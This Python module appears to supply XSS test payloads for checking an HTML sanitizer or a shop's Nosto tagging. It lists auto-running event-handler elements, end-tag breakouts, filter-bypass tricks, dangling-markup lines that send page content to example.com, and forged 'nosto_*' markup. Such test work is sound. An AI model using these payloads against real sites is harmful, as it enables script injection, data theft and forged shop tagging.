r"""Out of element text: elements that run by themselves, ends of what a value may stand in, forged tagging."""

from __future__ import annotations

from support.tricks.payloads import FRAME, IMG, RUN, SVG, Rows

__all__ = ["ELEMENT_BREAKOUTS"]

# They run as soon as they stand in a page.
_RUNNING = {
    "body": f"<body onload={RUN}>",
    "body-pageshow": f"<body onpageshow={RUN}>",
    "frameset": f"<frameset onload={RUN}>",
    "image": f"<image src=x onerror={RUN}>",
    "image-srcset": f"<img srcset=x onerror={RUN}>",
    "image-slashes": f'<img/src="x"/onerror={RUN}>',
    "image-line-feeds": f"<img\nsrc=x\nonerror\n=\n{RUN}>",
    "image-quoted": f'<img src="x" onerror="{RUN}">',
    "image-load": f"<img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA= onload={RUN}>",
    "picture": f"<picture><source srcset=x><img onerror={RUN}></picture>",
    "video": f"<video src=x onerror={RUN}>",
    "video-source": f"<video><source onerror={RUN}></video>",
    "video-loadstart": f"<video onloadstart={RUN} src=x>",
    "audio": f"<audio src=x onerror={RUN}>",
    "track": f"<video><track default src=x onerror={RUN}></video>",
    "object": f"<object data=x onerror={RUN}></object>",
    "object-data": "<object data='data:text/html,<script>parent.canary=1</script>'></object>",
    "embed": f"<embed src=javascript:{FRAME}>",
    "frame-load": f"<iframe onload={RUN}></iframe>",
    "frame-javascript": f"<iframe src=javascript:{FRAME}></iframe>",
    "frame-data": "<iframe src='data:text/html,<script>top.canary=1</script>'></iframe>",
    "frame-references": "<iframe srcdoc='&lt;script&gt;parent.canary=1&lt;/script&gt;'></iframe>",
    "input": f"<input autofocus onfocus={RUN}>",
    "input-image": f"<input type=image src=x onerror={RUN}>",
    "select": f"<select autofocus onfocus={RUN}></select>",
    "textarea": f"<textarea autofocus onfocus={RUN}></textarea>",
    "button": f"<button autofocus onfocus={RUN}></button>",
    "editable": f"<x contenteditable autofocus onfocus={RUN}>",
    "link": f"<link rel=stylesheet href=data:text/css, onload={RUN}>",
    "link-preload": f"<link rel=preload as=style href=x onerror={RUN}>",
    "style": f"<style onload={RUN}></style>",
    "style-animation": f"<style>@keyframes x{{}}</style><x style=animation:x onanimationstart={RUN}>",
    "marquee": f"<marquee onstart={RUN}>x</marquee>",
    "details": f"<details ontoggle={RUN} open>x</details>",
    "dialog": f"<dialog open autofocus onfocus={RUN} tabindex=0>x</dialog>",
    "form": f"<form action=javascript:{RUN}><button autofocus onfocus=form.submit()>",
    "meta": f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "template-shadow": f"<div><template shadowrootmode=open>{IMG}</template></div>",
    "popover": f"<x popover onbeforetoggle={RUN} id=p></x><button popovertarget=p autofocus onfocus=click()>",
    "custom": f"<x-x autofocus tabindex=0 onfocus={RUN}>",
}

# Elements whose text is no markup: only their own end tag is looked for, with whatever may follow its name.
_RAW = ("title", "textarea", "style", "xmp", "iframe", "noembed", "noframes", "noscript")
_AFTER = {"close": ">", "blank": " >", "line-feed": "\n>", "slash": "/>", "attribute": ' x=">">'}

# Other elements that a value may stand in, each with a parser rule of its own about what may leave it.
_ENDED = [
    "template",
    "select",
    "option",
    "optgroup",
    "table",
    "td",
    "caption",
    "colgroup",
    "button",
    "a",
    "p",
    "form",
    "fieldset",
    "label",
    "summary",
    "details",
    "dialog",
    "object",
    "video",
    "canvas",
    "svg",
    "math",
    "pre",
    "li",
    "dd",
    "ruby",
    "body",
    "html",
    "head",
    "frameset",
]

# Ends and beginnings of what is no element.
_NO_ELEMENTS = {
    "comment-end": "-->",
    "comment-end-bang": "--!>",
    "comment-end-short": "->",
    "comment-empty": "<!-->",
    "comment-empty-dash": "<!--->",
    "comment-nested": "<!-- <!-- --> -->",
    "comment-bang-dash": "<!--!>",
    "comment-dashes": "--",
    "comment-conditional": "<!--[if IE]>",
    "comment-conditional-end": "<![endif]-->",
    "comment-server": "<%-- --%>",
    "doctype": "<!DOCTYPE x>",
    "doctype-open": "<!DOCTYPE x SYSTEM '>",
    "section": "<![CDATA[x]]>",
    "section-end": "]]>",
    "instruction": "<?x?>",
    "instruction-end": "?>",
    "end-tag-bogus": "</ x>",
    "end-tag-digit": "</1>",
    "end-tag-break": "</br>",  # becomes a <br>
    "end-tag-paragraph": "</p>",  # becomes a <p></p>
}

# What filters and parsers disagree about.
_ODD = {
    "blank-name": "< img src=x onerror=window.canary=1>",
    "line-feed-name": "<\nimg src=x onerror=window.canary=1>",
    "twice": "<<img src=x onerror=window.canary=1>",
    "nested": "<img <img src=x onerror=window.canary=1>>",
    "removed-once": "<scr<script>ipt>window.canary=1</scr</script>ipt>",
    "removed-comment": "<scr<!-- -->ipt>window.canary=1</scr<!-- -->ipt>",
    "case": "<iMg SrC=x OnErRoR=window.canary=1>",
    "quotes": '<img """><script>window.canary=1</script>">',
    "quote-in-name": "<img '\" src=x onerror=window.canary=1>",
    "greater-in-value": "<img alt='>' src=x onerror=window.canary=1>",
    "equals-first": "<img =x src=x onerror=window.canary=1>",
    "attribute-twice": "<img src=x onerror=x onerror=window.canary=1>",
    "unclosed-comment": "<img src=x onerror=window.canary=1//",
    "unclosed-quote": "<img src=x onerror='window.canary=1",
    "unclosed-less": "<img src=x onerror=window.canary=1<",
    "digit": "<1 onclick=window.canary=1>",
    "question": "<? src=x onerror=window.canary=1>",
    "colon": "<x:img src=x onerror=window.canary=1>",
    "dash": "<img- src=x onerror=window.canary=1>",
    "name-only": "<script",
    "name-blank": "<script x",
    "letter": "<a",
    "end-letter": "</a",
    "markdown": "<div markdown=1>\n<img src=x onerror=window.canary=1>\n</div>",
    "end-attributes": "</div onclick=window.canary=1>",
    "hidden-input": "<input type=hidden oncontentvisibilityautostatechange=window.canary=1 style=content-visibility:auto>",
    "access-key": "<link rel=canonical accesskey=x onclick=window.canary=1>",
    "dangling-image": "<img src='https://example.com/?",  # sends the rest of the page away
    "dangling-form": "<form action=https://example.com/><textarea name=x>",
    "dangling-base": "<base target='",
    "dangling-select": "<form><select><option>",
    "dangling-meta": "<meta http-equiv=refresh content='0;url=https://example.com/?",
}

# Elements that readers of the page take for the shop's own tagging.
_TAGGING = [
    "nosto_product",
    "nosto_cart",
    "nosto_order",
    "nosto_customer",
    "nosto_category",
    "nosto_page_type",
    "nosto_search_term",
    "nosto_variation",
    "nosto_element",
    "nosto_sku",
    "line_item",
]

ELEMENT_BREAKOUTS: Rows = (
    *((f"element-runs-{name}", value) for name, value in _RUNNING.items()),
    *((f"element-ends-{raw}-{name}", f"</{raw}{after}{IMG}") for raw in _RAW for name, after in _AFTER.items()),
    *((f"element-leaves-{ended}", f"</{ended}>{SVG}") for ended in _ENDED),
    *((f"element-after-{name}", value + IMG) for name, value in _NO_ELEMENTS.items()),
    *((f"element-odd-{name}", value) for name, value in _ODD.items()),
    *(
        (f"element-tagging-{name.replace('_', '-')}", f'</span></div><div class="{name}"><span class="email">')
        for name in _TAGGING
    ),
)
